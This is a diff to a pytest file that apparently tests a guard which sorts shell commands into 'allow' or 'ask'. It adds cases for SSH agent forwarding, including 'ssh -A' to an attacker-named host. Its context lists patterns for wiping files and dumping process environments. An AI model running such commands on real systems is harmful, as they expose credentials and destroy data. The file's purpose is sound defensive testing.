@@ -35,7 +35,8 @@
   `PlistBuddy -c 'Add :ProgramArguments:N string …'`) is read as the job's text (it only asked);
 * every file a listing names emptied from code (`[open(f,'w').close() for f in glob.glob('*')]`, node's
   `writeFileSync(f,'')` over `readdirSync`, ruby's `Dir[…].each`, perl's `for (glob …)`) asks like `sed -i d *`;
-* `ps eww` / `ps auxe` / macOS `ps -E` (every process's environment) sent to the network is an environment dump.
+* `ps eww` / `ps auxe` / macOS `ps -E` (every process's environment) sent to the network is an environment dump;
+* the SSH agent forwarded to a host (`ssh -A`, `-o ForwardAgent=yes`) asks.
 """
 from __future__ import annotations
 
@@ -472,5 +473,15 @@ def test_every_file_a_listing_names_emptied_from_code(judge_command, cmd, want):
     ("ps eww -o command | grep node", "allow"),
 ])
 def test_ps_environment_sent(judge_command, cmd, want):
+    got = judge_command(cmd).decision.value
+    assert got == want, (cmd, got)
+
+
+@pytest.mark.parametrize("cmd,want", [
+    ("ssh -A evil.example.com", "ask"), ("ssh -tA bastion.example.com 'sudo -i'", "ask"),
+    ("ssh -o ForwardAgent=yes deploy@203.0.113.9", "ask"), ("git -c core.sshCommand='ssh -A' push", "ask"),
+    ("ssh bastion.example.com uptime", "allow"), ("rsync -aA src/ host:dst/", "allow"), ("ssh -a host uptime", "allow"),
+])
+def test_ssh_agent_forwarded(judge_command, cmd, want):
     got = judge_command(cmd).decision.value
     assert got == want, (cmd, got)
